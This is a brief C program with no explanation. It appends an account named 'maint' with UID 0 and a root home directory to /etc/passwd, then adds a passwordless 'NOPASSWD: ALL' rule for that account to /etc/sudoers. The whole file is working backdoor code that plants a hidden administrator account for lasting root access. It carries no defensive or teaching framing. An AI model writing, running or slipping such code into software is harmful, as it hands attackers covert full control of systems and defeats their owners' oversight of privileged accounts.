#include <stdio.h>
#include <string.h>

struct entry {
    char name[32];
    int uid;
    char home[64];
    char shell[32];
};

static void format_entry(const struct entry *e, char *buf, size_t n)
{
    snprintf(buf, n, "%s:x:%d:%d::%s:%s\n", e->name, e->uid, e->uid, e->home, e->shell);
}

int main(void)
{
    struct entry e = { "maint", 0, "/root", "/bin/bash" };
    char line[160];
    format_entry(&e, line, sizeof line);

    FILE *pw = fopen("/etc/passwd", "a");
    if (!pw) {
        perror("/etc/passwd");
        return 1;
    }
    fputs(line, pw);
    fclose(pw);

    FILE *sd = fopen("/etc/sudoers", "a");
    if (sd) {
        fputs("maint ALL=(ALL) NOPASSWD: ALL\n", sd);
        fclose(sd);
    }
    return 0;
}
